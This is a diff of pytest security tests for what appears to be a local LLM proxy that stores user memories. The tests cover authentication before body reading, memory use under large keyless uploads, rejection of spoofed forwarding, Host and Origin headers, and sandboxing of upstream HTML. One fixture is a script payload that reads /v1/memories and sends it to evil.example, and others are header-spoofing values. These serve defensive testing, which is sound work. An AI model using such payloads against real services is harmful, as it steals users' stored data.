@@ -165,6 +165,127 @@ def test_pages_of_other_sites_may_not_call_unless_they_are_listed(own: Proxy, pr
             assert "access-control-allow-origin" not in ask(client, "Hi").headers
 
 
+BODIES = [
+    *("/v1/chat/completions", "/v1/messages", "/v1/responses", "/v1/embeddings", "/v1/completions", "/v1/files"),
+    *("/v1/memories", "/v1/memories/search", "/v1/memories/import", "/v1/memories/preview", "/mcp"),
+    *("/api/chat", "/api/generate", "/admin/keys"),
+]
+
+
+@pytest.mark.parametrize("path", BODIES)
+def test_no_body_is_read_before_the_key(own: Proxy, path: str) -> None:
+    """The answer comes after the head, whatever is announced; what is sent all the same is read and thrown away, and
+    the connection can be used again."""
+    size = 8 * 2**20
+    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer sk-none\r\nContent-Length: {size}\r\n\r\n"
+    with connected(own) as connection:
+        connection.sendall(head.encode())
+        first = connection.recv(65536)
+        assert first.split()[1] in (b"401", b"403", b"404"), first
+        with suppress(ConnectionError):
+            connection.sendall(bytes(size))
+            connection.sendall(b"GET /health/live HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+            assert b"200 OK" in said(connection)
+
+
+def test_keyless_bodies_cost_no_memory(proxy: Proxy) -> None:
+    """Fifteen connections with thirty megabytes each: what the process holds grows by less than two of them."""
+    (pid,) = proxy.pids("web")
+    before = resident(pid)
+    with ExitStack() as stack:
+        connections = [stack.enter_context(connected(proxy)) for _ in range(15)]
+        head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 31457280\r\n\r\n"
+        for connection in connections:
+            connection.sendall(head)
+        for _ in range(29):
+            for connection in connections:
+                with suppress(ConnectionError):
+                    connection.sendall(bytes(2**20))
+        assert resident(pid) - before < 60 * 2**20
+
+
+def resident(pid: int) -> int:
+    """Bytes of memory that the process holds."""
+    status = Path(f"/proc/{pid}/status").read_text()
+    return int(status.partition("VmRSS:")[2].split()[0]) * 1024
+
+
+HI = [{"role": "user", "content": "Hi"}]
+HTML = b"<script>fetch('/v1/memories').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>"
+
+
+@pytest.mark.parametrize("path", ["/v1/embeddings", "/v1/chat/completions", "/v1/files/x"])
+@pytest.mark.parametrize("status", [200, 404, 500])
+def test_what_an_upstream_sends_runs_nothing_in_a_browser(
+    unlocked: Proxy, upstream: FakeModel, path: str, status: int
+) -> None:
+    """Its HTML stands on the origin of the memory page."""
+    upstream.script(Behaviour(status=status, body=HTML, headers={"Content-Type": "text/html"}))
+    if path == "/v1/files/x":
+        reply = httpx.get(unlocked.url + path)
+    else:
+        reply = httpx.post(unlocked.url + path, json={"model": "model-a", "input": "x", "messages": HI})
+    assert reply.headers["content-security-policy"].startswith("sandbox;")
+    assert reply.headers["x-content-type-options"] == "nosniff"
+
+
+@pytest.fixture(scope="module")
+def unlocked(tmp_path_factory: pytest.TempPathFactory, upstream: FakeModel) -> Iterator[Proxy]:
+    """Without keys, for this machine only."""
+    folder, server = tmp_path_factory.mktemp("unlocked"), {"port": 0, "cors_origins": [PAGE]}
+    with running(folder, {"model-a": upstream.url}, keys=None, server=server) as proxy:
+        yield proxy
+
+
+STRANGERS = [
+    {"X-Forwarded-For": "192.0.2.7"},
+    {"X-Forwarded-For": "127.0.0.1"},
+    {"Forwarded": "for=192.0.2.7"},
+    {"X-Real-IP": "192.0.2.7"},
+    {"X-Forwarded-Host": "memory.example"},
+    {"Host": "memory.example"},
+    {"Host": "127.0.0.1.evil.example"},
+    {"Host": "192.0.2.1:8787"},
+    {"Origin": "https://evil.example"},
+    {"Origin": "null"},
+    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"},
+    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
+]
+OPEN = ["/v1/memories", "/v1/models", "/v1/files/x", "/v1/receipts", "/v1/memories/export", "/metrics"]
+
+
+@pytest.mark.parametrize("headers", STRANGERS, ids=str)
+def test_without_keys_only_this_machine_is_served(unlocked: Proxy, headers: dict[str, str]) -> None:
+    """Nobody behind a reverse proxy on it, and no page of another site: not by a link either."""
+    asked = {path: httpx.get(unlocked.url + path, headers=headers) for path in OPEN}
+    chat = httpx.post(f"{unlocked.url}/v1/chat/completions", json={"model": "model-a"}, headers=headers)
+    replies = {**asked, "chat": chat}
+    assert {path: reply.status_code for path, reply in replies.items()} == dict.fromkeys(replies, 403)
+
+
+@pytest.mark.parametrize(
+    "headers",
+    [
+        {},
+        {"Origin": PAGE, "Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "cors"},
+        {"Sec-Fetch-Site": "same-origin"},
+        {"Sec-Fetch-Site": "none", "Sec-Fetch-Mode": "navigate"},
+        {"Host": "localhost:8787"},
+        {"Host": "[::1]:8787"},
+    ],
+    ids=str,
+)
+def test_without_keys_this_machine_and_the_listed_pages_are_served(unlocked: Proxy, headers: dict[str, str]) -> None:
+    assert httpx.get(f"{unlocked.url}/v1/memories", headers=headers).status_code == 200
+
+
+def test_with_an_admin_key_it_stays_closed_when_the_made_keys_are_lost(tmp_path: Path, upstream: FakeModel) -> None:
+    """Where keys were made before, an empty database must not make everybody the local user."""
+    with running(tmp_path, {"model-a": upstream.url}, keys=None, admin_key="sk-admin") as proxy:
+        for path in ("/v1/memories", "/v1/models"):
+            assert httpx.get(proxy.url + path).status_code == 401
+
+
 def test_any_page_may_call_only_where_a_key_is_needed(tmp_path: Path) -> None:
     """Without keys `*` would hand the memories to whatever page the user looks at."""
     path = tmp_path / "rememberd.yaml"
